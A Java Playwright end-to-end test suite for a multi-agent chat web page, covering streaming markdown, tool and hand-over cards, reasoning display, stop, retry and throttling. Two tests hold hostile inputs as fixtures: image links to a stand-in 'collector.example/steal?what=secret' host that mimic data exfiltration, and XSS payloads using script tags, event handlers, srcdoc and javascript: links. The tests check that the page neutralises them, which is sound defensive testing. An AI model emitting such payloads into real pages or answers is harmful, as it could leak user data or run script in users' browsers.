package dev.outcrop.e2e.pages;

import static com.microsoft.playwright.assertions.PlaywrightAssertions.assertThat;
import static dev.outcrop.e2e.pages.Piecewise.end;
import static dev.outcrop.e2e.pages.Piecewise.input;
import static dev.outcrop.e2e.pages.Piecewise.reasoning;
import static dev.outcrop.e2e.pages.Piecewise.text;
import static dev.outcrop.e2e.pages.Piecewise.tool;
import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import com.microsoft.playwright.Locator;
import com.microsoft.playwright.Page;
import com.microsoft.playwright.options.AriaRole;
import dev.outcrop.bedrock.local.Gate;
import java.time.Duration;
import java.util.List;
import java.util.regex.Pattern;
import org.junit.jupiter.api.Test;

/** From the agents on the start page to an answer that has arrived, failed or been stopped. */
class AskIT extends PageTest {

    @Test
    void the_agents_are_shown_and_one_says_what_it_is_for_and_what_to_ask() {
        model.script().otherwise(turn -> turn.text("Rice soup."));
        Chat chat = visitor().open("/");
        assertThat(chat.page().locator("[data-agent]")).hasCount(3);
        assertThat(chat.page().locator("[data-agent]").first()).hasAttribute("data-agent", "concierge");

        chat.page()
                .getByRole(AriaRole.LINK, new Page.GetByRoleOptions().setName("Chef AI"))
                .click();
        assertThat(chat.page()).hasURL(server.base() + "/a/chef");
        assertThat(chat.page().getByText("What to cook for dinner")).isVisible();
        assertThat(chat.page().getByText("Weather, In season, Convert units")).isVisible();

        chat.button("I have eggs, leeks and rice").click();
        assertThat(chat.questions()).hasText(Pattern.compile("I have eggs, leeks and rice"));
        chat.assertAnswer("Rice soup.");
        assertThat(api.read("/api/conversations/" + chat.conversationId())
                        .path("agent")
                        .asString())
                .isEqualTo("chef");
    }

    @Test
    void the_question_and_thinking_are_painted_before_the_model_says_anything() {
        Gate gate = Gate.closed();
        model.script().turn(turn -> turn.hold(gate).text("Here I am."));
        Chat chat = visitor().with("concierge");
        chat.page().evaluate("""
                () => {
                  addEventListener('keydown', event => { if (event.key === 'Enter') window.pressed = performance.now(); }, true);
                  new MutationObserver(() => {
                    if (window.painted === undefined && document.querySelector('[data-testid=thinking]'))
                      requestAnimationFrame(() => { window.painted ??= performance.now(); });
                  }).observe(document.body, { childList: true, subtree: true });
                }""");

        chat.ask("Are you there?");
        assertThat(chat.id("thinking")).hasText("Thinking…");
        chat.assertBusy();
        assertThat(chat.composer()).hasValue("");
        chat.page().waitForFunction("window.painted !== undefined");
        double ms = ((Number) chat.page().evaluate("window.painted - window.pressed")).doubleValue();
        System.out.printf("figure: Enter to painted \"Thinking…\": %.0f ms%n", ms);
        assertThat(ms).isLessThan(5_000); // the plan says 100; the machine does other things too

        gate.open();
        chat.assertAnswer("Here I am.");
        assertThat(chat.id("thinking")).isHidden();
        assertThat(chat.id("status")).hasText("The answer is complete.");
    }

    @Test
    void text_is_markdown_while_it_streams() {
        Gate gate = Gate.closed();
        model.script().turn(turn -> {
            text(turn, 0, "# Plan\n\n- one\n- **two");
            turn.hold(gate);
            text(turn, 0, "** and more\n\n```java\nint answer = 42;\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |\n");
            end(turn, 0);
        });
        Chat chat = visitor().with("concierge");
        chat.ask("A plan, please");

        Locator answer = chat.answer();
        assertThat(answer).hasAttribute("data-state", "running");
        assertThat(answer.locator("h3")).hasText("Plan");
        assertThat(answer.locator("li strong")).hasText("two"); // not closed yet, shown as if it were
        assertThat(chat.id("status")).hasText("The answer has started.");
        answer.locator("h3").evaluate("heading => { heading.seen = true; }");

        gate.open();
        assertThat(answer).hasAttribute("data-state", "completed");
        assertThat(answer.locator("pre")).containsText("int answer = 42;");
        assertThat(answer.locator("td")).hasText(new String[] {"1", "2"});
        assertThat((Boolean) answer.locator("h3").evaluate("heading => heading.seen === true"))
                .as("a finished block keeps its node, to the end and beyond")
                .isTrue();
        assertThat(chat.id("facts")).isVisible();
        assertThat(chat.id("facts").getByText(Pattern.compile("\\d+ in, \\d+ out")))
                .isVisible();
    }

    @Test
    void a_tool_card_shows_the_input_while_it_is_written_then_the_result_and_the_time() {
        Gate gate = Gate.closed();
        model.script().turn(turn -> {
            turn.text("Let me calculate.");
            tool(turn, 1, "t1", "calculator");
            input(turn, 1, "{\"expression\": \"1280 ");
            turn.hold(gate);
            input(turn, 1, "* 1.15\"}");
            end(turn, 1);
            turn.stop("tool_use");
        });
        model.script().turn(turn -> turn.text("It is 1472."));
        Chat chat = visitor().with("concierge");
        chat.ask("1280 times 1.15?");

        Locator card = chat.tool("calculator");
        assertThat(card).hasAttribute("data-state", "writing");
        assertThat(card).containsText("\"1280 ");
        assertThat(card).containsText("Writing input");

        gate.open();
        assertThat(card).hasAttribute("data-state", "done");
        assertThat(card.locator("summary")).containsText("1280 * 1.15");
        assertThat(card.locator("summary")).containsText(Pattern.compile("\\d+ ?(ms|s)"));
        assertThat(card.getByText("\"expression\"")).isHidden();
        card.locator("summary").click();
        assertThat(card.getByRole(AriaRole.GROUP, named("Input"))).containsText("\"expression\": \"1280 * 1.15\"");
        assertThat(card.getByRole(AriaRole.GROUP, named("Result"))).containsText("1472");
        chat.assertIdle();
        assertThat(chat.answer()).containsText("It is 1472.");

        chat.page().reload();
        assertThat(card).hasAttribute("data-state", "done");
        assertThat(card.locator("summary")).containsText(Pattern.compile("\\d+ ?(ms|s)"));
        assertThat(chat.answer()).containsText("It is 1472.");
    }

    @Test
    void a_tool_that_failed_is_open_and_the_answer_goes_on() {
        model.script().turn(turn -> turn.toolUse("t1", "calculator", "{\"expression\": \"1 / 0\"}"));
        model.script().turn(turn -> turn.text("That cannot be divided."));
        Chat chat = visitor().with("concierge");
        chat.askUntil("completed", "One by zero?");

        assertThat(chat.tool("calculator")).hasAttribute("data-state", "failed");
        assertThat(chat.tool("calculator").getByRole(AriaRole.GROUP, named("Error")))
                .isVisible();
        assertThat(chat.answer()).containsText("That cannot be divided.");
    }

    @Test
    void reasoning_is_open_while_it_comes_and_folds_when_the_answer_starts() {
        Gate gate = Gate.closed();
        model.script().turn(turn -> {
            reasoning(turn, 0, "First I think about it.");
            turn.hold(gate);
            end(turn, 0);
            text(turn, 1, "Thought over.");
            end(turn, 1);
        });
        Chat chat = visitor().with("concierge");
        chat.ask("Think, please");

        Locator thought = chat.id("reasoning").getByText("First I think about it.");
        assertThat(thought).isVisible();
        gate.open();
        assertThat(chat.answer()).containsText("Thought over.");
        assertThat(thought).isHidden();
        chat.id("reasoning").locator("summary").click();
        assertThat(thought).isVisible();
    }

    @Test
    void a_hand_over_shows_whom_it_asked_and_what_came_back() {
        Gate gate = Gate.closed();
        model.script()
                .turn(turn -> turn.toolUse("t1", "ask_chef", "{\"question\": \"Eggs and leeks: what can I cook?\"}"));
        model.script().turn(turn -> turn.hold(gate).text("Leek omelette, says the chef."));
        model.script().turn(turn -> turn.text("The chef suggests a leek omelette."));
        Chat chat = visitor().with("concierge");
        chat.ask("Eggs and leeks?");

        Locator card = chat.handover("chef");
        assertThat(card).hasAttribute("data-state", "running");
        assertThat(card).containsText("Asking Chef AI");
        gate.open();
        assertThat(card).hasAttribute("data-state", "done");
        assertThat(card).containsText("Asked Chef AI");
        card.locator("summary").click();
        assertThat(card).containsText("Eggs and leeks: what can I cook?");
        assertThat(card).containsText("Leek omelette, says the chef.");
        chat.assertIdle();
        assertThat(chat.answer()).containsText("The chef suggests a leek omelette.");
    }

    @Test
    void stop_stops_the_model_as_well() {
        model.script().turn(turn -> {
            text(turn, 0, "This will never end");
            turn.thenStall();
        });
        Chat chat = visitor().with("concierge");
        chat.ask("Go on for ever");
        assertThat(chat.answer()).containsText("This will never end");

        assertThat(chat.sendOrStop()).hasAttribute("aria-label", "Stop");
        chat.sendOrStop().click();
        model.service().awaitCancelled(1, SOON);
        assertThat(chat.answer()).hasAttribute("data-state", "cancelled");
        assertThat(chat.answer()).containsText("Stopped.");
        assertThat(chat.answer()).containsText("This will never end");
        assertThat(chat.id("status")).hasText("The answer was stopped.");
        assertCancelled(chat);
    }

    @Test
    void escape_stops_too() {
        model.script().turn(turn -> {
            text(turn, 0, "On and on");
            turn.thenStall();
        });
        Chat chat = visitor().with("concierge");
        chat.ask("Go on");
        assertThat(chat.answer()).containsText("On and on");
        chat.page().keyboard().press("Escape");
        model.service().awaitCancelled(1, SOON);
        assertThat(chat.answer()).hasAttribute("data-state", "cancelled");
        assertCancelled(chat);
    }

    @Test
    void an_answer_that_failed_keeps_its_text_and_says_why_with_an_id_and_a_way_on() {
        model.script().turn(turn -> {
            text(turn, 0, "Half an ans");
            turn.exception("validationException", "The input is too strange.");
        });
        Chat chat = visitor().with("concierge");
        chat.askUntil("failed", "Something strange");

        Locator alert =
                chat.page().getByRole(AriaRole.ALERT).filter(new Locator.FilterOptions().setHasText("Error e_"));
        assertThat(alert).hasText(Pattern.compile("\\w.*\\. ?Error e_\\w+", Pattern.DOTALL));
        assertThat(chat.id("status")).hasText("The answer failed.");
        assertThat(chat.answer()).containsText("Half an ans");

        model.script().otherwise(turn -> turn.text("Now it works."));
        chat.button("Retry").click();
        assertThat(chat.answer()).hasAttribute("data-state", "completed");
        assertThat(chat.answer()).containsText("Now it works.");
        assertThat(chat.questions()).hasCount(1);
    }

    @Test
    void an_image_in_an_answer_is_a_link_and_nothing_is_fetched() {
        model.script()
                .turn(turn -> turn.text(
                        "![the chart](https://collector.example/steal?what=secret) and <img src=\"https://collector.example/2\">"
                                + " ![](https://collector.example/3)"));
        Chat chat = visitor().with("concierge");
        chat.askUntil("completed", "A chart?");

        assertThat(chat.page().locator("main img")).hasCount(0);
        Locator link = chat.answer().getByRole(AriaRole.LINK, new Locator.GetByRoleOptions().setName("the chart"));
        assertThat(link).hasAttribute("href", "https://collector.example/steal?what=secret");
        assertThat(link).hasAttribute("rel", Pattern.compile("noopener noreferrer"));
        // That nothing was fetched is what Watch says at the end.
    }

    @Test
    void what_looks_like_a_script_is_text() {
        String attack = "<script>window.hacked = 1</script><img src=x onerror=\"window.hacked = 2\">"
                + "<svg onload=\"window.hacked = 3\"></svg><iframe srcdoc=\"<script>parent.hacked = 4</script>\"></iframe>";
        model.script()
                .turn(turn ->
                        turn.toolUse("t1", "calculator", "{\"expression\": \"<img src=x onerror=window.hacked=5>\"}"));
        model.script()
                .turn(
                        turn -> turn.reasoning(attack, "SIG")
                                .text(
                                        attack
                                                + "\n\n[click me](javascript:window.hacked=6) [data](data:text/html,<script>alert(1)</script>)"));
        Chat chat = visitor().with("concierge");
        chat.askUntil("completed", attack);

        assertThat(chat.questions()).containsText("<script>window.hacked = 1</script>");
        assertThat(chat.answer()).containsText("<script>window.hacked = 1</script>");
        assertThat(chat.answer().locator("script, img, iframe, svg[onload]")).hasCount(0);
        List<?> links = (List<?>) chat.answer().locator("a").evaluateAll("all => all.map(link => link.protocol)");
        assertThat(links).allMatch(protocol -> !"javascript:".equals(protocol) && !"data:".equals(protocol));
        assertThat(chat.answer().getByText("click me")).isVisible();
        chat.answer().getByText("click me").click();
        assertThat(chat.page().evaluate("window.hacked")).isNull();
    }

    @Test
    void a_throttled_model_is_waited_for_and_the_page_says_so() {
        model.script()
                .turn(turn -> turn.httpError(429, "ThrottlingException", "Too many requests", Duration.ofSeconds(5)));
        model.script().otherwise(turn -> turn.text("Here after all."));
        Chat chat = visitor().with("concierge");
        chat.ask("Busy?");
        assertThat(chat.id("thinking")).hasText(Pattern.compile("The model is busy\\. Trying again in \\d s\\."));
        chat.assertAnswer("Here after all.");
        chat.assertIdle();
    }

    /** The page is told of the stop before the run's end is in the journal. */
    private void assertCancelled(Chat chat) {
        String id = chat.conversationId();
        await().atMost(SOON)
                .untilAsserted(() -> assertThat(
                                api.lastMessage(id).path("run").path("status").asString())
                        .isEqualTo("cancelled"));
    }

    private static Locator.GetByRoleOptions named(String name) {
        return new Locator.GetByRoleOptions().setName(name);
    }
}
